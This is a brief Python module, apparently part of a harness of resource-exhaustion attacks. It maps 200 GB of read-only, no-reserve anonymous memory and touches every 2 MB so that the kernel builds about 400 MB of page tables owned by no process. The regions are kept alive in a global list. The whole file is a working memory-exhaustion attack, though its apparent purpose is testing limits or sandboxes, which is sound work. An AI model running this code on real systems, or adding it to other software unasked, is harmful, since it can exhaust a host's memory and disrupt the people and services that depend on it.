"""Takes memory that is nobody's: tables of pages which are all the same empty one."""

import mmap

from attacking import at_first, until_looked_at

GIB = 1024**3
STEP = 2 * 1024 * 1024
NORESERVE = 0x4000


def attack():
    """A table of 4 KB for each 2 MB that are looked at: 400 MB of them for 200 GB."""
    looked_at = 0
    for _ in range(200):
        area = mmap.mmap(-1, GIB, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE, mmap.PROT_READ)
        for place in range(0, GIB, STEP):
            area[place]
        kept.append(area)
        looked_at += GIB // STEP
    until_looked_at()
    return {"tables": looked_at}


kept = []
choose = at_first(attack)
